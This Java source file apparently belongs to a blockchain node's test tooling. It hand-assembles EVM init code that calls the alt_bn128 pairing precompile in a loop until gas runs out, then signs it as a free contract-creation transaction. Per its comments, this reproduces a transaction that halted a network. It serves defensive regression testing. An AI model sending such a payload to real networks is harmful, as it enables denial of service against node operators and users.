package org.xinlian.cli;

import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.util.Optional;
import java.util.OptionalLong;
import org.xinlian.crypto.CryptoSuite;
import org.xinlian.crypto.KeyPair;
import org.xinlian.node.DevChain;
import org.xinlian.types.transaction.TransactionCodec;
import org.xinlian.types.transaction.UnsignedTransaction;

/**
 * Transactions an attacker sends (issue 11): built by hand, signed by fresh keys that hold nothing,
 * at a gas price of zero — what any client that reaches a node can do on a chain whose base fee
 * is zero.
 */
final class HostileTransactions {
  /** alt_bn128's field prime (EIP-196). */
  private static final BigInteger FIELD_PRIME =
      new BigInteger("21888242871839275222246405745257275088696311157297823662689037894645226208583");
  /** The G2 generator in EIP-197's order: x imaginary, x real, y imaginary, y real. */
  private static final String[] G2_GENERATOR = {
    "198e9393920d483a7260bfb731fb5d25f1aa493335a9e71297e485b7aef312c2",
    "1800deef121f1e76426a00665e5c4479674322d4f75edadd46debd5cd992f6ed",
    "090689d0585ff075ec9e99ad690c3395bc4b313370b38ef355acdadcd122975b",
    "12c85ea5db8c6deb4aab71808dcb408fe3d1e7690c43d37b4ce6cc0166fa7daa"};
  private static final int PAIRING_INPUT_BYTES = 384;
  private static final int LOOP_CODE_BYTES = 28;

  private HostileTransactions() {}

  /**
   * Init code that copies two pairs, e(P, Q) and e(−P, Q) (whose product is one, so the pairing
   * precompile 0x08 does its whole work and answers 1), into memory and then calls 0x08 with them
   * in a loop until the gas runs out: the transaction that halted a network for 280 s.
   */
  static byte[] pairingLoopInitCode() {
    ByteArrayOutputStream code = new ByteArrayOutputStream();
    code.writeBytes(new byte[] {
        0x61, 0x01, (byte) 0x80,              // PUSH2 384: size
        0x61, 0x00, LOOP_CODE_BYTES,          // PUSH2 28: where the pairs start in the code
        0x60, 0x00,                           // PUSH1 0: memory offset
        0x39,                                 // CODECOPY
        0x5b,                                 // 9: JUMPDEST
        0x60, 0x20,                           // PUSH1 32: return size
        0x61, 0x01, (byte) 0x80,              // PUSH2 384: return offset
        0x61, 0x01, (byte) 0x80,              // PUSH2 384: input size
        0x60, 0x00,                           // PUSH1 0: input offset
        0x60, 0x08,                           // PUSH1 8: the pairing precompile
        0x5a,                                 // GAS
        (byte) 0xfa,                          // STATICCALL
        0x50,                                 // POP
        0x60, 0x09,                           // PUSH1 9
        0x56});                               // JUMP
    if (code.size() != LOOP_CODE_BYTES) {
      throw new IllegalStateException("loop code is " + code.size() + " bytes");
    }
    code.writeBytes(word(BigInteger.ONE));
    code.writeBytes(word(BigInteger.TWO));
    for (String part : G2_GENERATOR) {
      code.writeBytes(word(new BigInteger(part, 16)));
    }
    code.writeBytes(word(BigInteger.ONE));
    code.writeBytes(word(FIELD_PRIME.subtract(BigInteger.TWO)));
    for (String part : G2_GENERATOR) {
      code.writeBytes(word(new BigInteger(part, 16)));
    }
    if (code.size() != LOOP_CODE_BYTES + PAIRING_INPUT_BYTES) {
      throw new IllegalStateException("init code is " + code.size() + " bytes");
    }
    return code.toByteArray();
  }

  /**
   * A contract creation running {@link #pairingLoopInitCode} with {@code gas}, free, from
   * development account {@code devAccount}: on a permissioned network (GOV-8) only an admitted
   * operator may deploy, so the attacker is an insider with the operator role, the worst case left.
   */
  static byte[] pairingLoop(CryptoSuite suite, long gas, int devAccount) {
    KeyPair attacker = suite.keyPairFromPrivateKey(org.xinlian.node.DevChain.privateKey(devAccount));
    UnsignedTransaction unsigned = new UnsignedTransaction.Legacy(0, BigInteger.ZERO, gas,
        Optional.empty(), BigInteger.ZERO, pairingLoopInitCode(), OptionalLong.of(DevChain.CHAIN_ID));
    TransactionCodec codec = TransactionCodec.of(suite);
    return codec.encode(codec.sign(unsigned, attacker.privateKey()));
  }

  private static byte[] word(BigInteger value) {
    byte[] bytes = value.toByteArray();
    byte[] word = new byte[32];
    int length = Math.min(bytes.length, 32);
    System.arraycopy(bytes, bytes.length - length, word, 32 - length, length);
    return word;
  }
}
